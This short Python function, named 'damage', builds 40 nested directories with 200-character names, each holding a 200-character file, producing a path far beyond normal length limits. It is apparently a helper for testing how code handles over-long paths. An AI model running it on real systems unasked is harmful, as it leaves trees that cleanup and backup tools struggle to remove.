import os


def damage(folder):
    deep = os.open(folder, os.O_RDONLY)
    for _ in range(40):
        os.mkdir("d" * 200, dir_fd=deep)
        inner = os.open("d" * 200, os.O_RDONLY, dir_fd=deep)
        os.close(os.open("f" * 200, os.O_CREAT | os.O_WRONLY, dir_fd=inner))
        os.close(deep)
        deep = inner
    os.close(deep)
